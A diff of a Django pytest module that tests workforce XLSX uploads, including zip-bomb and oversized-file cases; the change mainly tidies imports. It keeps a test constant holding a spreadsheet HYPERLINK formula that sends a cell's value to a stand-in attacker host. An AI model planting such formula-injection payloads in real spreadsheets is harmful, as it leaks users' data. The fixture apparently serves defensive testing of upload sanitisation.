@@ -4,21 +4,17 @@ an XLSX that inflates beyond the limit and a file above the size limit, naming t
 from __future__ import annotations
 
 import io
-import sys
 from pathlib import Path
 from typing import Any
 
 import pytest
-from coveragekit import build_demo_like, coverage_users
 from django.test import Client, override_settings
 from openpyxl import load_workbook
 
-sys.path.insert(0, str(Path(__file__).resolve().parent.parent / "core"))
-
-from xlsxkit import write_xlsx
-
 from paritrana.coverage.models import WorkforceFigure, WorkforceUpload
 from paritrana.registry.models import Region
+from tests.core.xlsxkit import write_xlsx
+from tests.coverage.coveragekit import build_demo_like, coverage_users
 
 FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"Klik")'
 
